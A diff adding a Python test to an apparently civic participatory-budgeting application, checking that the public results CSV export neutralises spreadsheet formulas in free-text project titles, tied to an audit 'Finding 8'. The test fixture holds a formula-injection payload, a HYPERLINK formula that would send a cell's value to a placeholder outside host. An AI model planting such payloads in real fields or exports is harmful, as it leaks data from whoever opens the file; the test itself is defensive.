@@ -379,3 +379,14 @@ def test_public_ballot_numbers_are_shuffled_by_a_secret_per_count(pb):
     services.tallies_compute(budget_id=budget.pk)
     budget.refresh_from_db()
     assert budget.ballot_order_key != key
+
+
+def test_budget_csv_files_never_start_a_formula(pb, agent_a, citizen):
+    """Finding 8: project titles are free text; the public results CSV keeps them inert."""
+    project = pb["projects"]["Bancs"]
+    project.title = '=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")'
+    project.save(update_fields=["title"])
+    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
+    budget = _count_and_close(pb)
+    rows = selectors.csv_export(budget=budget)
+    assert "'=HYPERLINK" in rows and ",=HYPERLINK" not in rows
